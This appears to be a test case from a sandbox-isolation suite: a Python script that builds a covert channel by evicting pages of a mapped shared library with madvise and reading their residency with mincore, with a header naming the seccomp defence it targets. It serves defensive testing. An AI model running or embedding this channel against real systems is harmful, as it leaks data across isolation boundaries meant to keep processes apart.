# attack: pages of a mapped file thrown out by madvise, found by mincore
# wall: seccomp: MADV_PAGEOUT, mincore; a root of its own
# user: root
# lasts: yes

import ctypes
import os


def large_file():
    for folder, _, names in os.walk("/usr/lib"):
        for name in sorted(names):
            path = os.path.join(folder, name)
            if ".so" in name and os.path.isfile(path) and os.path.getsize(path) > 8 << 20:
                return os.open(path, os.O_RDONLY)


libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p


def map_file():
    global address
    file = large_file()
    address = libc.mmap(None, ctypes.c_size_t(8 << 20), 1, 1, file, ctypes.c_long(0))
    return file


def pages(n):
    return ctypes.c_void_p(address + ((100 + 32 * n) << 12)), ctypes.c_size_t(32 << 12)


def send(bits):
    os.posix_fadvise(map_file(), 0, 0, os.POSIX_FADV_RANDOM)
    for n, bit in enumerate(bits):
        for page in range(32):
            ctypes.string_at(pages(n)[0].value + (page << 12), 1)
        if bit:
            libc.madvise(*pages(n), 21)


def receive(count):
    map_file()
    got = []
    for n in range(count):
        found = ctypes.create_string_buffer(32)
        if libc.mincore(*pages(n), found):
            return None
        got.append(int(sum(byte & 1 for byte in found.raw) < 16))
    return got
